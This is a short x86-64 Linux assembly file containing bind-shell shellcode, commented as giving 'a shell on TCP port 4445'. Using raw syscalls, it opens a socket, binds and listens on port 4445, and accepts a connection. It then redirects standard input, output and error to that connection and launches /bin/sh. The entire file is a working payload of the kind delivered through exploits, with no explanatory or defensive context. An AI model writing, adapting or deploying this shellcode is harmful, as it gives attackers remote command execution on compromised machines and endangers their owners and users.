; Linux, 64 bit: a shell on TCP port 4445.
bits 64
        push 41
        pop rax
        cdq
        push 2
        pop rdi
        push 1
        pop rsi
        syscall
        xchg rdi, rax
        push rdx
        mov dword [rsp], 0x5d110002
        mov rsi, rsp
        push 16
        pop rdx
        push 49
        pop rax
        syscall
        push 50
        pop rax
        xor esi, esi
        syscall
        push 43
        pop rax
        xor edx, edx
        syscall
        xchg rdi, rax
        push 3
        pop rsi
dup:    dec esi
        push 33
        pop rax
        syscall
        jne dup
        push 59
        pop rax
        cdq
        push rdx
        mov rbx, '/bin//sh'
        push rbx
        mov rdi, rsp
        push rdx
        push rdi
        mov rsi, rsp
        syscall
